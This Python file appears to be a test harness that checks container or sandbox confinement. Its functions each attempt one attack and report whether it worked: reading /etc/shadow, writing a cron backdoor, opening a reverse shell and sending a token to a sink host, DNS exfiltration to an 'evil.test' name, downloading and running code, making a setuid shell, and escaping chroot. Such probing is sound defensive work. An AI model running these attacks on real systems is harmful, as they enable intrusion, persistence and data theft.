"""Attacks by a program that the image runs anyway. Each is named on the command line, and prints
EFFECT when it has got what it wanted. That a call said that it succeeded is enough only where the
call is all that is wanted."""

import ctypes
import os
import socket
import struct
import subprocess
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
EFFECT = "EFFECT"


def call(number, *arguments):
    LIBC.syscall.restype = ctypes.c_long
    result = LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), f"system call {number}")
    return result


def long(number):
    return ctypes.c_long(number)


def sink():
    return os.environ["SINK"], int(os.environ["PORT"])


def none():
    return True


def read_shadow():
    return "root:" in open("/etc/shadow").read()


def write_cron():
    os.makedirs("/etc/cron.d", exist_ok=True)
    with open("/etc/cron.d/backdoor", "w") as file:
        file.write("* * * * * root /tmp/backdoor\n")
    return "backdoor" in open("/etc/cron.d/backdoor").read()


def reverse_shell():
    connection = socket.create_connection(sink(), timeout=5)
    connection.sendall(b"shell\n")
    shell = subprocess.Popen(["sh"], stdin=connection, stdout=connection, stderr=connection)
    shell.wait()
    return None  # the one who was called tells


def fetch(what):
    connection = socket.create_connection(sink(), timeout=5)
    connection.sendall(what + b"\n")
    with connection.makefile("rb") as answer:
        return answer.read()


def download_script():
    with open("/tmp/tool.sh", "wb") as file:
        file.write(fetch(b"script"))
    return EFFECT.encode() in subprocess.run(["sh", "/tmp/tool.sh"], capture_output=True).stdout


def download_program():
    with open("/tmp/tool", "wb") as file:
        file.write(fetch(b"program"))
    os.chmod("/tmp/tool", 0o755)
    return EFFECT.encode() in subprocess.run(["/tmp/tool", EFFECT], capture_output=True).stdout


def copy_and_run(path):
    with open("/bin/echo", "rb") as program, open(path, "wb") as file:
        file.write(program.read())
    os.chmod(path, 0o755)
    return EFFECT.encode() in subprocess.run([path, EFFECT], capture_output=True).stdout


def shm_miner():
    return copy_and_run("/dev/shm/miner")


def memfd_exec():
    descriptor = os.memfd_create("tool")
    with open("/bin/echo", "rb") as program:
        os.write(descriptor, program.read())
    path = f"/proc/{os.getpid()}/fd/{descriptor}"
    return EFFECT.encode() in subprocess.run([path, EFFECT], capture_output=True).stdout


def rwx_memory():
    code = b"\xb8\x2a\x00\x00\x00\xc3"  # return 42, x86-64
    LIBC.mmap.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    memory = LIBC.mmap(None, 4096, 7, 0x22, -1, 0)
    if memory in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    ctypes.memmove(memory, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(memory)() == 42


def mount():
    os.makedirs("/tmp/mounted", exist_ok=True)
    if LIBC.mount(b"none", b"/tmp/mounted", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.path.ismount("/tmp/mounted")


def unshare():
    before = os.readlink("/proc/self/ns/user")
    if LIBC.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.readlink("/proc/self/ns/user") != before


class Victim:
    """A process that waits, by calls that the workload makes too, until it is told to end."""

    def __enter__(self):
        waits, self.ends = os.pipe()
        self.pid = os.fork()
        if self.pid == 0:
            os.close(self.ends)
            os.read(waits, 1)
            os._exit(0)
        return self.pid

    def __exit__(self, *_):
        os.close(self.ends)
        os.kill(self.pid, 9)


def ptrace():
    with Victim() as victim:
        call(101, long(16), long(victim), long(0), long(0))
        os.waitpid(victim, 0x40000000)
        registers = ctypes.create_string_buffer(512)
        call(101, long(12), long(victim), long(0), registers)
        return any(registers.raw)


def read_memory():
    secret = ctypes.create_string_buffer(b"secret of the other process")
    with Victim() as victim:
        found = ctypes.create_string_buffer(len(secret))
        local = struct.pack("QQ", ctypes.addressof(found), len(found))
        remote = struct.pack("QQ", ctypes.addressof(secret), len(secret))
        call(310, long(victim), local, long(1), remote, long(1), long(0))
        return found.value == secret.value


def kernel_module():
    image = open("/bin/true", "rb").read()
    try:
        call(175, image, long(len(image)), b"")
    except OSError as error:
        # the kernel looked at it: with a real module it would be loaded
        return error.errno == 8
    return True


def bpf():
    # a map of one entry
    attributes = struct.pack("IIIII", 2, 4, 4, 1, 0).ljust(120, b"\0")
    return call(321, long(0), attributes, long(len(attributes))) >= 0


def keyctl():
    key = call(248, b"user", b"backdoor", b"secret", long(6), long(-2 & 0xFFFFFFFF))
    found = ctypes.create_string_buffer(6)
    call(250, long(11), long(key), found, long(6))
    return found.raw == b"secret"


def raw_socket():
    ping = struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(5)
        raw.sendto(ping, (sink()[0], 0))
        return len(raw.recv(1024)) > 0


def listen():
    with socket.create_server(("0.0.0.0", 31337)) as server:
        print("PORT 31337", flush=True)
        server.settimeout(10)
        client, _ = server.accept()
        client.sendall(EFFECT.encode())
        client.close()
    return None


def call_home():
    with socket.create_connection(sink(), timeout=5) as connection:
        connection.sendall(f"TOKEN {EFFECT}\n".encode())
    return None


def fast_open():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.sendto(f"TOKEN {EFFECT}\n".encode(), 0x20000000, sink())
    return None  # the rest is sent before the socket is gone


def dns_exfiltration():
    name = b"".join(bytes([len(part)]) + part for part in (b"EFFECT", b"evil", b"test")) + b"\0"
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(question, (sink()[0], 53))
    return None


def preload():
    with open("/lib/x86_64-linux-gnu/libm.so.6", "rb") as library, open("/tmp/evil.so", "wb") as file:
        file.write(library.read())
    child = subprocess.run(
        ["cat", "/proc/self/maps"], capture_output=True, env={"LD_PRELOAD": "/tmp/evil.so"}
    )
    return b"/tmp/evil.so" in child.stdout


def preload_all():
    with open("/etc/ld.so.preload", "w") as file:
        file.write("/lib/x86_64-linux-gnu/libm.so.6\n")
    return b"libm" in subprocess.run(["cat", "/proc/self/maps"], capture_output=True).stdout


def setuid_shell():
    with open("/bin/sh", "rb") as program, open("/tmp/rootsh", "wb") as file:
        file.write(program.read())
    os.chmod("/tmp/rootsh", 0o4755)
    return os.stat("/tmp/rootsh").st_mode & 0o4000 != 0


def replace_program():
    with open("/usr/bin/uname", "r+b") as file:
        file.write(b"#!/bin/sh\necho EFFECT\n")
    return True


def core_pattern():
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        old = file.read()
        file.write(old)
    return True


def device():
    os.mknod("/tmp/disk", 0o60600, os.makedev(1, 3))
    return os.stat("/tmp/disk").st_rdev == os.makedev(1, 3)


def chroot_escape():
    os.makedirs("/tmp/cage", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/cage")
    caged = not os.path.exists("/etc/hostname")
    os.fchdir(outside)
    os.chroot(".")
    return caged and os.path.exists("/etc/hostname")


def io_uring():
    return call(425, long(4), ctypes.create_string_buffer(120)) >= 0


def list_folders():
    return "shadow" in os.listdir("/etc") and len(list(os.walk("/etc"))) > 20


def new_user():
    os.setgid(33)
    os.setuid(33)
    return os.getuid() == 33


if __name__ == "__main__":
    name = sys.argv[1]
    try:
        if globals()[name]():
            print(EFFECT)
    except Exception as error:
        print(f"{type(error).__name__}: {error}")
